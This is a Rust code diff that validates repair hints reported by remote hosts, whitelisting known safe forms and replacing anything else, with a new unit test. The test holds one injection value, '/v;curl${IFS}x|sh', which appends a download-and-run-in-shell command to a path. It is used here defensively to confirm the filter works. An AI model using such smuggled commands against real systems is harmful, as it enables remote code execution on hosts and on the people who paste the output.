@@ -97,7 +97,7 @@ pub fn answer(host: &Host, python: Python<'_>, lines: &[String]) -> Result<Answe
             "interpreter" => interpreter = value,
             "why" => why = format!(": {value}"),
             "noenv" => no_env = Some(Fault::unreachable(host.place(), value)),
-            "cure" => no_env = no_env.map(|fault| fault.fix(value)),
+            "cure" => no_env = no_env.map(|fault| fault.fix(checked_cure(value))),
             "dgl" => facts.dgl = text(),
             "torch" => facts.torch = text(),
             _ => {}
@@ -127,6 +127,22 @@ pub fn answer(host: &Host, python: Python<'_>, lines: &[String]) -> Result<Answe
         _ => {}
     }
     Ok(Answer { facts, warnings })
+}
+
+/// The cures of env.sh. People paste them, so they are known here, and a host has its word only in a path.
+fn checked_cure(said: &str) -> &str {
+    let with_path = ["make it there: python3 -m venv ", "say --conda "];
+    let whole = [
+        "conda env list tells there which there are",
+        "conda env list tells there which there are; --conda takes a folder too",
+        "name a venv with --venv",
+        "install Python into it, or name another environment",
+    ];
+    let path = with_path.iter().find_map(|beginning| said.strip_prefix(beginning));
+    match path.is_some_and(|path| path.starts_with('/') && quote::may_be_pasted(path)) || whole.contains(&said) {
+        true => said,
+        false => "make the environment there, or name another one with --conda or --venv",
+    }
 }
 
 fn no_card(host: &Host, cards: &[(&str, &str)]) -> Fault {
@@ -183,14 +199,16 @@ mod tests {
     #[test]
     fn answers() {
         let whole = ["card lo 127.0.0.1", "card eth0 10.77.0.2", "python 3.10.1", "dgl 2.1.0"];
-        let none = ["card eth0 10.77.0.2", "noenv no such folder: /v", "cure make it"];
-        let table: [(&str, &[&str], Result<(Option<&str>, usize), &str>); 6] = [
+        let none = ["card eth0 10.77.0.2", "noenv no such folder: /v", "cure make it there: python3 -m venv /v"];
+        let evil = ["card eth0 10.77.0.2", "noenv no such folder: /v", "cure say --conda /v;curl${IFS}x|sh"];
+        let table: [(&str, &[&str], Result<(Option<&str>, usize), &str>); 7] = [
             ("10.77.0.2", &whole, Ok((Some("eth0"), 0))),
             ("10.0.0.5", &whole, Err("10.0.0.5 is not the first address of a card there (eth0 10.77.0.2); DGL would")),
             ("10.0.0.5", &whole[..1], Err("(there is only lo)")),
             ("10.77.0.2", &whole[..3], Ok((Some("eth0"), 1))),
             ("10.77.0.2", &[], Ok((None, 2))),
-            ("10.77.0.2", &none, Err("host 0 (10.77.0.2): no such folder: /v\n  fix: make it")),
+            ("10.77.0.2", &none, Err("host 0 (10.77.0.2): no such folder: /v\n  fix: make it there: python3 -m venv /v")),
+            ("10.77.0.2", &evil, Err("host 0 (10.77.0.2): no such folder: /v\n  fix: make the environment there, or name")),
         ];
         for (ip, lines, wanted) in table {
             let lines: Vec<String> = lines.iter().map(|line| (*line).to_owned()).collect();
